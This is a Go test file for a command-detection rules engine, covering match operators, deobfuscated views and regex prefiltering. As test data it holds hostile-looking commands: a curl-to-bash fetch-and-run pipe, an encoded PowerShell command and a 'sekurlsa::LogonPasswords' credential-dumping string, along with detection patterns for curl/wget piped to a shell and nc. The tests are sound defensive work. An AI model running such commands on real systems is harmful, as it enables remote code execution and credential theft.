package rules

import (
	"fmt"
	"slices"
	"testing"

	"github.com/vigilsec/vigil/internal/command/parse"
)

func TestOperators(t *testing.T) {
	parsed := &parse.Command{
		Executable: "curl",
		Segments:   []parse.Segment{{Executable: "curl", Flags: []string{"-fsSL"}}, {Executable: "bash"}},
		Indicators: parse.Indicators{URLs: []string{"http://Example.com/x.sh"}},
	}
	in := Input{Raw: "  CURL -fsSL http://Example.com/x.sh | bash ", Deobfuscated: "curl -fsSL http://example.com/x.sh | bash", Parsed: parsed}
	tests := []struct {
		name  string
		match string
		want  bool
	}{
		{"regex is case-insensitive by default", `{regex: 'curl\s+-fssl'}`, true},
		{"regex case_sensitive sees the original case", `{regex: 'curl', field: raw, case_sensitive: true}`, false},
		{"contains on the text view", `{contains: example.com/x.sh}`, true},
		{"contains list means any of", `{contains: [nope, '| bash']}`, true},
		{"startswith on a trimmed view", `{field: raw, startswith: curl}`, true},
		{"endswith", `{endswith: '| bash'}`, true},
		{"equals on a parsed field", `{field: executable, equals: CURL}`, true},
		{"in on every segment executable", `{field: executables, in: [sh, bash]}`, true},
		{"in misses", `{field: executables, in: [sh, zsh]}`, false},
		{"exists true on a filled field", `{field: urls, exists: true}`, true},
		{"exists false on an empty field", `{field: ips, exists: true}`, false},
		{"regex on a parsed list", `{field: urls, regex: '^http://example\.com/'}`, true},
		{"not inverts", `{not: {contains: wget}}`, true},
		{"all needs every branch", `{all: [{contains: curl}, {contains: wget}]}`, false},
		{"any needs one branch", `{any: [{contains: wget}, {contains: bash}]}`, true},
		{"field defaults to text", `{regex: '\|\s*bash$'}`, true},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := loadUser(t, ruleYAML(fmt.Sprintf("t.r%d", i), tt.match))
			got := len(e.Match(in)) == 1
			if got != tt.want {
				t.Fatalf("match %s on %q = %v, want %v", tt.match, in.Raw, got, tt.want)
			}
		})
	}
}

func TestTextViewChecksRawAndDeobfuscated(t *testing.T) {
	e := loadUser(t, ruleYAML("t.view", `{contains: whoami}`)+ruleItem("t.rawonly", `{field: raw, contains: whoami}`))
	hits := e.Match(Input{Raw: "powershell -enc dwBoAG8AYQBtAGkA", Deobfuscated: "whoami"})
	if got := hitIDs(hits); !slices.Equal(got, []string{"t.view"}) {
		t.Fatalf("hits = %v, want only the text-view rule", got)
	}
}

func TestNilParsedNeverMatchesParsedFields(t *testing.T) {
	e := loadUser(t, ruleYAML("t.exe", `{field: executable, equals: ls}`)+ruleItem("t.noexe", `{field: executable, exists: false}`))
	if got := hitIDs(e.Match(Input{Raw: "ls"})); !slices.Equal(got, []string{"t.noexe"}) {
		t.Fatalf("hits = %v, want [t.noexe]", got)
	}
}

func TestPrefilterKeepsMatches(t *testing.T) {
	// Rules whose literals appear only through case folding or in the
	// deobfuscated view must still fire.
	e := loadUser(t, ruleYAML("t.fold", `{regex: 'sekurlsa::\w+'}`)+ruleItem("t.kelvin", `{regex: 'k'}`))
	if got := hitIDs(e.Match(Input{Raw: "x", Deobfuscated: "SEKURLSA::LogonPasswords"})); !slices.Contains(got, "t.fold") {
		t.Fatalf("deobfuscated upper-case literal missed: %v", got)
	}
	if got := hitIDs(e.Match(Input{Raw: "\u212a"})); !slices.Contains(got, "t.kelvin") {
		t.Fatalf("Kelvin sign should fold to k: %v", got)
	}
	if got := hitIDs(e.Match(Input{Raw: "nothing here"})); len(got) != 0 {
		t.Fatalf("unexpected hits %v", got)
	}
}

func TestRegexClauses(t *testing.T) {
	tests := []struct {
		re   string
		want string
	}{
		{`(curl|wget)\s+.*\|\s*(ba)?sh\b`, `[[curl wget] [bash sh] [|]]`},
		{`\bnc(at)?\b`, `[[nc ncat]]`},
		{`a*`, `[]`},
		{`(foo|.*)`, `[]`},
		{`(?:x{2,})`, `[[x]]`},
	}
	for _, tt := range tests {
		t.Run(tt.re, func(t *testing.T) {
			cs := selectClauses(required(&condSpec{Regex: &tt.re}))
			if got := fmt.Sprint(cs); got != tt.want && !(tt.want == "[]" && len(cs) == 0) {
				t.Fatalf("clauses(%s) = %s, want %s", tt.re, got, tt.want)
			}
		})
	}
}

func ruleYAML(id, match string) string { return "rules:\n" + ruleItem(id, match) }

func ruleItem(id, match string) string {
	return fmt.Sprintf(`  - id: %s
    title: test rule
    level: low
    action: requires_context
    match: %s
    examples: {positive: [x], negative: [y]}
`, id, match)
}
